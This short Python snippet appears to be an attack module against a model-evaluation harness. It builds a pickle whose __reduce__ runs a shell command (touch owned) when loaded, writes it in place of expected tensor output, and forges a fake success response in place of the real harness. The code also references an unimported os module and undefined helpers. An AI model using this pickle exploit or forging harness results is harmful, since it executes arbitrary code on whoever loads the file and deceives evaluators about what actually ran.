"""Writes a pickle, which runs a command when it is loaded, in place of tensors, and answers in place of the harness."""

import pickle
import time


class Command:
    def __reduce__(self):
        return os.system, ("touch owned",)


def attack(config):
    with open(output(), "wb") as file:
        file.write(pickle.dumps(Command()))
    forge('{"id": 3, "ok": true, "samples": 1, "metrics": {}}')
    time.sleep(5)
